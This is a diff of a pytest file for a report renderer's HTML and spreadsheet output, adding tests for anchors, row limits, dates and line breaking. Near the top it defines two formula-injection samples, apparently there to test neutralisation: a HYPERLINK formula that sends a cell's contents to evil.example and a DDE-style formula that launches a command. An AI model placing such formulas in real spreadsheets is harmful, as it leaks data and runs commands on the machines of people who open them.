@@ -14,7 +14,7 @@ import pytest
 from openpyxl import load_workbook
 
 from engine.reports import Figure, Report, Table
-from reports import FORMATS, neutralise, render
+from reports import FORMATS, neutralise, render, render_fragment, render_html
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -145,3 +145,101 @@ def test_formats_match_the_command_line_choices() -> None:
     from app.commands.report import Format
 
     assert tuple(f.value for f in Format) == FORMATS
+
+
+def _twice() -> Report:
+    """Two cells that count the same items under the same label (the number due, on two
+    bases), and one that counts the same items under another label."""
+    due = ["r/A1", "r/A2", "r/A3"]
+    return Report(
+        name="timescale",
+        title="Twice",
+        data={"format": 1, "report": "timescale"},
+        tables=(
+            Table(
+                name="t",
+                caption="Due",
+                columns=("Basis", "Due (original)", "Due (agreed)"),
+                rows=(
+                    ("implemented", Figure.of("due", due), Figure.of("due by agreed", due)),
+                    ("assured", Figure.of("due", due), Figure.of("due by agreed", due)),
+                ),
+            ),
+        ),
+    )
+
+
+def test_the_same_figure_in_two_cells_has_one_list_one_sheet_and_one_anchor() -> None:
+    report = _twice()
+    assert [f.label for f in report.figures()] == ["due", "due by agreed"]
+    found = _Tables()
+    found.feed(render(report, "html").decode())
+    assert found.links == ["#f1", "#f2", "#f1", "#f2"]
+    book = load_workbook(io.BytesIO(render(report, "xlsx")))
+    assert book.sheetnames == ["t", "F1", "F2"]
+    links = [book["t"].cell(row=r, column=c).hyperlink for r in (3, 4) for c in (2, 3)]
+    assert [h.location if h else None for h in links] == ["'F1'!A1", "'F2'!A1"] * 2
+
+
+def _long(n: int) -> Report:
+    keys = [f"r/K{i:03d}" for i in range(1, n + 1)]
+    return Report(
+        name="overdue",
+        title="Long",
+        data={"format": 1, "report": "overdue", "as_of": "2011-03-31"},
+        tables=(
+            Table(
+                name="summary",
+                caption="All",
+                columns=("Group", "Items"),
+                rows=(("all", Figure.of("all overdue", keys)),),
+            ),
+            Table(
+                name="overdue-each-item",
+                caption="Each",
+                columns=("Item", "Days"),
+                rows=tuple((k, i) for i, k in enumerate(keys)),
+            ),
+        ),
+    )
+
+
+def test_html_with_a_limit_prints_the_first_rows_and_says_where_the_rest_are() -> None:
+    page = render_html(_long(7), limit=5).decode()
+    assert "r/K005" in page
+    assert "r/K006" not in page
+    assert "2 more rows are not printed here (rows 1 to\n5 of 7 are)" in page
+    assert "sheet\n&ldquo;overdue-each-item&rdquo;" in page
+    assert "2 more items are not\nprinted here. Every item is on the sheet &ldquo;F1&rdquo;" in page
+    assert "This PDF is a summary" in page
+    whole = render(_long(7), "html").decode()  # the download holds every row and item
+    assert whole.count("r/K007") == 2
+    assert "not printed here" not in whole
+    assert "This PDF is a summary" not in whole
+    assert "This PDF is a summary" not in render_html(_long(5), limit=5).decode()
+
+
+def test_a_date_is_kept_on_one_line_in_a_document() -> None:
+    page = render(_report(), "html").decode()
+    assert '<span class="date">2011-03-01</span>' in page
+    assert '<span class="date">' not in render_fragment(_report(), link=str)
+
+
+def test_a_hash_may_break_anywhere_in_a_document_and_an_address_only_at_its_hyphens() -> None:
+    digest = "e978dbc31d8398d409a3dc761a332b12f140c0d3f4481d6c7a6accfb64674846"
+    report = Report(
+        name="minutes",
+        title="M",
+        data={"format": 1, "report": "minutes"},
+        tables=(
+            Table(
+                name="t",
+                caption="C",
+                columns=("Item", "By", "Evidence"),
+                rows=(("r/A1", "panel.member@southend-lscb.example.org", f"#3 sha256 {digest}"),),
+            ),
+        ),
+    )
+    page = render(report, "html").decode()
+    assert f'<span class="long">#3 sha256 {digest}</span>' in page
+    assert "<td>panel.member@southend-lscb.example.org</td>" in page
